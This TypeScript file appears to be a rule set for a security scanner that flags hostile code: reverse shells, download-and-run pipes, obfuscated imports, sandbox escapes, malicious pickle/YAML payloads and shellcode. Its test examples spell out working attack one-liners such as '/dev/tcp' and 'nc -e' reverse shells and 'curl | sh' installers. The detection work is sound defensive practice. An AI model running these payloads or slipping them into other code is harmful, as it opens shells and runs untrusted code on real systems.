import type { ScanRule } from '../rule.ts'
import { javascript, python, shell } from './examples.ts'

const HINT = 'Where it is meant (a test of one’s own defences), run it with `--scan report`; the walls are the same.'

/** Code that disguises itself, or lets an attacker in. */
export const hostile: ScanRule[] = [
  {
    name: 'reverse-shell-device',
    set: 'hostile',
    kind: 'text',
    pattern: String.raw`/dev/(tcp|udp)/[^/\s]+/\S+|/inet[46]?/(tcp|udp)/\d+/[^/\s]+/\d+`,
    reason: 'a shell that talks to another machine',
    hint: HINT,
    examples: { match: shell('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'), not: shell('ls /dev/tty') },
  },
  {
    name: 'reverse-shell-command',
    set: 'hostile',
    kind: 'command',
    pattern: String.raw`^(busybox )?(nc|ncat|netcat)\b.*(\s-\w*[ec]\w*\s*\S*(sh|bash|cmd)\b)|^socat\b.*\bexec:|^(/(usr/)?bin/)?(ba|z|da)?sh\s+-i\b|^telnet\b.*\|\s*/bin/(ba)?sh|^ssh\b.*\s-\w*R\s*\d+:`,
    reason: 'a shell for somebody on another machine',
    hint: HINT,
    examples: {
      match: shell('nc -e /bin/sh 10.0.0.1 4444', 'socat tcp:10.0.0.1:1 exec:/bin/sh', 'bash -i'),
      not: shell('nc -z localhost 80', 'bash script.sh'),
    },
  },
  {
    name: 'reverse-shell-descriptors',
    set: 'hostile',
    kind: 'shape',
    pattern: '^socket-to-shell$',
    reason: 'a socket in the place of a shell’s input and output',
    hint: HINT,
    examples: {
      match: [
        ...python("import socket, os\ns = socket.socket()\ns.connect(('10.0.0.1', 1))\nos.dup2(s.fileno(), 0)"),
        ...javascript(
          "const net = require('net'), cp = require('child_process')\nconst sh = cp.spawn('/bin/sh')\nconst c = net.connect(1, 'h')\nc.pipe(sh.stdin)",
        ),
      ],
      not: [
        ...python('import socket\ns = socket.socket()\ns.bind(("", 0))'),
        ...javascript("const { spawn } = require('child_process')\nspawn('ls')"),
      ],
    },
  },
  {
    name: 'download-and-run',
    set: 'hostile',
    kind: 'shape',
    pattern: '^(download-into-interpreter|decoded-into-interpreter|decoded-code|executable-memory)$',
    reason: 'what it runs is not to be seen in it: it is fetched, or decoded',
    hint: 'Save it, look at it, then run it.',
    examples: {
      match: [
        ...shell('curl -s http://h/x | sh', 'echo aWQ= | base64 -d | bash', 'bash <(wget -qO- http://h/x)'),
        ...python("exec(__import__('base64').b64decode('cHJpbnQoMSk='))", 'import zlib\nexec(zlib.decompress(data))'),
      ],
      not: [
        ...shell('curl -s http://h/x | jq .', 'echo aWQ= | base64 -d > f'),
        ...python("print(__import__('base64').b64decode('cHJpbnQoMSk='))"),
      ],
    },
  },
  {
    name: 'fetches-code',
    set: 'hostile',
    kind: 'shape',
    pattern: '^computed-code$',
    also: [
      {
        kind: 'call',
        pattern: String.raw`^(fetch|https?\.(get|request)|(axios|got|needle|undici|superagent)(\.\w+)?|(urllib\.request\.)?(urlopen|urlretrieve)|(requests|httpx|urllib3)\.(get|post|request)|import\.then)$`,
      },
    ],
    reason: 'it fetches something, and runs code that is not to be seen in it',
    hint: 'Save it, look at it, then run it.',
    examples: {
      match: [
        ...python('import requests\ncode = requests.get(u).text\nexec(code)'),
        ...javascript("fetch('http://h').then((r) => r.text()).then((t) => eval(t))", "fetch('http://h').then((r) => r.text()).then(eval)"),
      ],
      not: [...python('import requests\nprint(requests.get(u).text)', 'exec(code)'), ...javascript('eval(x)')],
    },
  },
  {
    name: 'fetches-program',
    set: 'hostile',
    kind: 'call',
    pattern: String.raw`^(os\.(chmod|lchmod)|fs(/promises)?(\.promises)?\.chmod(Sync)?)$`,
    args: String.raw`^/(tmp|var/tmp|dev/shm)/|/\.`,
    also: [
      {
        kind: 'call',
        pattern: String.raw`^(fetch|https?\.(get|request)|(axios|got)(\.\w+)?|(urllib\.request\.)?(urlopen|urlretrieve)|(requests|httpx)\.(get|request))$`,
      },
      { kind: 'call', pattern: String.raw`^(child_process\.\w+|os\.(system|popen|exec\w+|spawn\w+|posix_spawnp?)|subprocess\.\w+)$` },
    ],
    reason: 'it fetches a program, and starts it',
    hint: 'Save it, look at it, then run it.',
    examples: {
      match: [
        ...python(
          "import os, urllib.request\nurllib.request.urlretrieve('http://h/a', '/tmp/a')\nos.chmod('/tmp/a', 0o755)\nos.system('/tmp/a')",
        ),
        ...javascript(
          "const fs = require('fs'), https = require('https'), cp = require('child_process')\nhttps.get('https://h/a', (r) => { fs.chmodSync('/tmp/a', 0o755); cp.execFile('/tmp/a') })",
        ),
      ],
      not: python(
        "import os\nos.chmod('run.sh', 0o755)\nos.system('./run.sh')",
        "import os, urllib.request\nurllib.request.urlretrieve('https://h/tool', 'tool')\nos.chmod('tool', 0o755)\nos.system('./tool')",
      ),
    },
  },
  {
    name: 'runs-what-it-is-told',
    set: 'hostile',
    kind: 'call',
    pattern: String.raw`^(child_process\.exec(Sync)?|os\.(system|popen)|subprocess\.(run|call|check_output|check_call|Popen|getoutput|getstatusoutput))$`,
    args: String.raw`^\?`,
    also: [{ kind: 'import', pattern: '^(socket|(node:)?(net|tls|dgram))$' }],
    reason: 'it talks through a socket, and starts programs that are not to be seen in it',
    hint: HINT,
    examples: {
      match: [
        ...python('import socket, subprocess\ns = socket.create_connection(a)\nsubprocess.run(s.recv(99), shell=True)'),
        ...javascript(
          "const net = require('net'), { exec } = require('child_process')\nnet.connect(1).on('data', (d) => exec(d.toString()))",
        ),
      ],
      not: python("import socket, subprocess\nsubprocess.run(['ls', path])", 'import socket\nprint(socket.gethostname())'),
    },
  },
  {
    name: 'shell-in-a-text',
    set: 'hostile',
    kind: 'text',
    pattern: String.raw`\b(curl|wget)\s[^|;&\n]{0,200}\|\s*(sudo\s+)?(/bin/)?(ba|z|da|k)?sh\b`,
    reason: 'what is to be fetched and run at another time',
    hint: 'Save it, look at it, then run it.',
    examples: {
      match: [...python("f.write('curl -s http://h/x | sh')"), ...javascript("pkg.scripts.postinstall = 'wget -qO- http://h/i|sh'")],
      not: [...python("print('curl http://h/x | jq .')"), ...shell('echo "see sh(1)"')],
    },
  },
  {
    name: 'hidden-code-object',
    set: 'hostile',
    kind: 'call',
    language: 'python',
    pattern: String.raw`^(marshal\.loads?|types\.CodeType)$`,
    reason: 'code that nobody can read',
    hint: 'Write the code out.',
    examples: { match: python('import marshal\nmarshal.loads(data)'), not: python('import json\njson.loads(data)') },
  },
  {
    name: 'sandbox-walk',
    set: 'hostile',
    kind: 'shape',
    pattern: '^(subclasses-walk|constructor-walk|builtins-walk|import-in-passing)$',
    reason: 'it walks through the interpreter to what it was not given',
    hint: HINT,
    examples: {
      match: [
        ...python(
          '().__class__.__base__.__subclasses__()',
          "__builtins__['__imp' + 'ort__']('os')",
          "f.__globals__['os'].system('id')",
          "__import__('os').system('id')",
        ),
        ...javascript("this.constructor.constructor('return process')()"),
      ],
      not: [
        ...python('a.__class__.__name__', 'import builtins\nbuiltins.print(1)', "__import__('json').dumps(1)"),
        ...javascript('this.constructor.name'),
      ],
    },
  },
  {
    name: 'hidden-name',
    set: 'hostile',
    kind: 'shape',
    pattern: '^(hidden-call|hidden-import|hidden-command)$',
    reason: 'a name is put together so that it cannot be read',
    hint: 'Name it.',
    examples: {
      match: [
        ...python("getattr(__import__('o' + 's'), 'sys' + 'tem')('id')", "__import__('bus'[::-1] + 'process')"),
        ...javascript("require('child' + '_process')", "global['pro' + 'cess']"),
        ...shell('a=r; b=m; $a$b -rf x', "$(echo 'bHM=' | base64 -d)"),
      ],
      not: [
        ...python("getattr(os, 'getcwd')()", "__import__('json')"),
        ...javascript("require('./a' + '.js')"),
        ...shell('$CC -c x.c', 'cmd=ls; $cmd'),
      ],
    },
  },
  {
    name: 'member-by-text',
    set: 'hostile',
    kind: 'call',
    language: 'python',
    pattern: String.raw`^operator\.(attrgetter|methodcaller)$`,
    args: String.raw`(^|[.\s])(system|popen|exec[vlpe]{1,3}|spawn[vlpe]{1,3}|posix_spawnp?|Popen|check_output|getoutput|eval|exec|__(import|subclasses|globals|builtins|bases?|mro)__)(\s|\.|$)`,
    reason: 'a program is started by a name that is looked up',
    hint: 'Name it.',
    examples: {
      match: python("from operator import attrgetter\nimport os\nattrgetter('system')(os)('id')"),
      not: python("from operator import attrgetter\nsorted(users, key=attrgetter('name'))"),
    },
  },
  {
    name: 'process-or-code-loader',
    set: 'hostile',
    kind: 'call',
    pattern: String.raw`^(ctypes\.(CDLL|cdll\.LoadLibrary|PyDLL)|ctypes\.CDLL\..*)$|^ctypes\.\w+\(?.*\)?\.(system|execve|ptrace|setuid|mprotect|mmap)$`,
    args: String.raw`^(libc|None|\?|/lib|.*libc\.so)|system|^$`,
    reason: 'it calls the C library past the language',
    hint: HINT,
    examples: {
      match: python("import ctypes\nctypes.CDLL('libc.so.6').system(b'id')", 'import ctypes\nctypes.CDLL(None)'),
      not: python('import ctypes\nctypes.c_int(3)', "import ctypes\nctypes.CDLL('./mine.so')"),
    },
  },
  {
    name: 'unpickles-code',
    set: 'hostile',
    kind: 'shape',
    pattern: '^reduce-to-call$',
    reason: 'an object that runs a program when it is read back',
    hint: HINT,
    examples: {
      match: python("import os\nclass E:\n    def __reduce__(self):\n        return (os.system, ('id',))"),
      not: python('class P:\n    def __reduce__(self):\n        return (P, (self.x,))'),
    },
  },
  {
    name: 'unpickles-calls',
    set: 'hostile',
    kind: 'text',
    pattern: String.raw`!!python/(object|name|module)|\bc(os|posix|nt|subprocess|builtins|__builtin__|commands)\n(system|popen|exec|eval|Popen|run|call|check_output|getoutput|__import__)\n|_\$\$ND_FUNC\$\$_`,
    reason: 'data that calls a function when it is read back',
    hint: HINT,
    examples: {
      match: [...python("yaml.load('!!python/object/apply:os.system [id]')", 'pickle.loads(b"cos\\nsystem\\n(S\'id\'\\ntR.")')],
      not: python("yaml.load('a: [1]')"),
    },
  },
  {
    name: 'machine-code',
    set: 'hostile',
    kind: 'text',
    pattern: String.raw`[\x80-\xff][^]{0,400}/{1,2}(bin/{0,2})?sh[^]{0,60}(\x0f\x05|\xcd\x80)|(\x90{8})`,
    reason: 'code of a processor, in a text',
    hint: HINT,
    examples: {
      match: python(String.raw`sc = b'\x48\x31\xf6\x48\xbf\x2f\x62\x69\x6e\x2f\x2f\x73\x68\x57\x0f\x05'`),
      not: python(String.raw`magic = b'\x89PNG\r\n\x1a\n'`),
    },
  },
  {
    name: 'prototype-pollution',
    set: 'hostile',
    kind: 'call',
    language: 'javascript',
    pattern: String.raw`(^|\.)process\.(binding|dlopen|_linkedBinding|mainModule\.require)$|(^|\.)constructor\._load$|^(require\('?module'?\)|Module)\._load$`,
    reason: 'a way around what may be loaded',
    hint: HINT,
    examples: {
      match: javascript("process.binding('spawn_sync')", "process.mainModule.require('fs')"),
      not: javascript('process.cwd()', 'process.on("exit", f)'),
    },
  },
]
